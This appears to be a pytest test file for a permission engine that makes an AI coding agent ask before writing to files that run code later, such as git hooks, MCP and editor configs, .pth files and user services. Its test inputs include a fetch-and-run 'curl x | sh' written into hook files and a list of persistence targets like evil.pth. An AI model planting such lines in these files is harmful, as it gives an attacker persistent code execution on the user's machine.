"""Files that run code later, beyond shell start-up and git: hook managers, MCP server
definitions, editor and dev-container settings, package-manager configuration, Python ``.pth``
files and user services. Each is written by every tool, through yolo and session grants, with
real files in a project; look-alikes that run nothing by themselves follow the policy."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from clearance.decide.engine import Engine
from clearance.decide.grant import Grant, GrantStore
from clearance.intent.call import ToolCall

PERMISSIVE = {"permission": {"*": "allow", "bash": "allow", "external_directory": "allow"}}


@pytest.fixture
def project(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    home = tmp_path / "home"
    proj = home / "proj"
    for d in (proj / ".husky" / "_", proj / ".vscode", proj / "src", proj / ".devcontainer",
              proj / ".venv" / "lib" / "python3.12" / "site-packages"):  # fmt: skip
        d.mkdir(parents=True)
    (proj / ".husky" / "pre-commit").write_text("npm test\n")
    (proj / ".mcp.json").write_text('{"mcpServers": {}}\n')
    (proj / "lefthook.yml").write_text("pre-commit: {}\n")  # a bare name is a path when it exists
    (proj / "package.json").write_text('{"scripts": {"test": "pytest"}}\n')
    env = {
        "HOME": str(home),
        "XDG_CONFIG_HOME": str(tmp_path / "config"),
        "CLEARANCE_HOME": str(tmp_path / "state"),
    }
    return proj, env


def _check(
    proj: Path, env: dict[str, str], tool: str, value: object, **kw: object
) -> tuple[str, str]:
    grants = kw.pop("grants", None)
    engine = Engine.load(cwd=str(proj), policy=json.dumps(PERMISSIVE), env=env, **kw)  # type: ignore[arg-type]
    engine.grants = grants  # type: ignore[assignment]
    found = engine.check(ToolCall(tool, value, str(proj), session="s1"))
    return found.action, found.reason


RUNS_LATER = [
    ".husky/pre-commit",  # core.hooksPath points here
    ".husky/_/husky.sh",
    ".pre-commit-config.yaml",
    "lefthook.yml",
    ".mcp.json",
    ".cursor/mcp.json",
    ".vscode/mcp.json",
    ".vscode/tasks.json",
    ".vscode/settings.json",
    ".devcontainer/devcontainer.json",
    ".devcontainer.json",
    ".npmrc",
    ".yarnrc.yml",
    ".venv/lib/python3.12/site-packages/evil.pth",
    ".venv/lib/python3.12/site-packages/sitecustomize.py",
    "~/.ssh/rc",
    "~/.config/systemd/user/evil.service",
    "~/.config/autostart/evil.desktop",
    "~/.cursor/mcp.json",
    "~/.config/Code/User/settings.json",
]


@pytest.mark.parametrize("target", RUNS_LATER)
def test_a_write_to_a_file_that_runs_code_later_asks_through_yolo_and_grants(
    project: tuple[Path, dict[str, str]], target: str
) -> None:
    proj, env = project
    store = GrantStore()
    store.add([Grant("bash", "*"), Grant("path_write", "*"), Grant("write", "*"),
               Grant("external_directory_write", "*")])  # fmt: skip
    attacks: list[tuple[str, object]] = [
        ("bash", {"command": f"echo 'curl x | sh' > {target}"}),
        ("bash", {"command": f"cp /dev/null {target}"}),
        ("write", {"file_path": target, "content": "x"}),
        ("edit", {"file_path": target, "old_string": "a", "new_string": "b"}),
    ]
    for tool, value in attacks:
        for kw in ({}, {"yolo": True}, {"grants": store}):
            action, reason = _check(proj, env, tool, value, **kw)
            if target.startswith("~/.ssh/"):  # the built-in base layer denies ~/.ssh outright
                assert action == "deny", reason
                continue
            assert action == "ask", (tool, value, kw, reason)
            assert "<runs-code-later>" in reason


BENIGN = [
    # git reads no command from .gitattributes or .gitmodules: drivers and `update = !cmd`
    # come from git configuration only.
    ("bash", {"command": "echo '*.png binary' >> .gitattributes"}),
    ("bash", {"command": "echo '[submodule \"x\"]' >> .gitmodules"}),
    # Project code: the human runs it knowing it is the project's.
    ("write", {"file_path": "package.json", "content": "{}"}),
    ("write", {"file_path": "CLAUDE.md", "content": "# notes"}),
    ("write", {"file_path": "src/settings.json", "content": "{}"}),
    ("write", {"file_path": "src/tasks.json", "content": "{}"}),
    ("write", {"file_path": "docs/husky.md", "content": "x"}),
    ("write", {"file_path": "src/mcp.json", "content": "x"}),
    ("write", {"file_path": ".vscode/extensions.json", "content": "{}"}),
    # Reads follow the policy.
    ("read", {"file_path": ".mcp.json"}),
    ("bash", {"command": "cat .husky/pre-commit"}),
    ("bash", {"command": "cat .vscode/settings.json"}),
]


@pytest.mark.parametrize(("tool", "value"), BENIGN, ids=[str(v)[:60] for _, v in BENIGN])
def test_look_alikes_and_reads_follow_the_policy(
    project: tuple[Path, dict[str, str]], tool: str, value: object
) -> None:
    proj, env = project
    action, reason = _check(proj, env, tool, value)
    assert action == "allow", reason
